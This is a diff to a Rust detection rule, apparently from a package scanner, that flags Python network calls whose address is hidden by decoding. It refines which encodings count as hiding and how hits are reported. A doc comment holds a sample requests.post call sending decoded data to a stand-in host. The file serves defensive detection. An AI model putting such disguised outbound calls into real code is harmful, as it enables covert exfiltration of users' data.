@@ -24,7 +24,7 @@
 //! requests.post('http://x.example.invalid', data=base64.b64decode('aGVsbG8='))
 //! ```
 
-use fondaco_python::{Api, Taint, Value};
+use fondaco_python::{Api, Encoder, Taint, Value};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
 
 use crate::{Hits, Package, Rule};
@@ -45,7 +45,8 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
         let address = call.kwargs.iter().find(|(key, _)| key == "url").map(|(_, value)| value).or(call.args.first());
         let second = call.args.get(1).filter(|_| call.callee.ends_with(".request"));
         if talks && address.into_iter().chain(second).any(is_decoded_address) {
-            hits.call(unit, call, format!("{} with an address that was hidden", call.callee));
+            // Hidden is hidden, whichever way the call is reached.
+            hits.line(unit, call.line, format!("{} with an address that was hidden", call.callee));
         }
     }
 }
@@ -58,6 +59,6 @@ fn is_decoded_address(value: &Value) -> bool {
     };
     items.iter().chain([value]).any(|v| {
         let whole = v.as_bytes().and_then(|bytes| std::str::from_utf8(bytes).ok());
-        v.taint.has(Taint::DECODED) && !v.taint.has(Taint::NETWORK) && !v.encoders.is_empty() && whole.is_some_and(is_address)
+        v.taint.has(Taint::DECODED) && !v.taint.has(Taint::NETWORK) && v.encoders.iter().any(|e| *e != Encoder::Escapes) && whole.is_some_and(is_address)
     })
 }
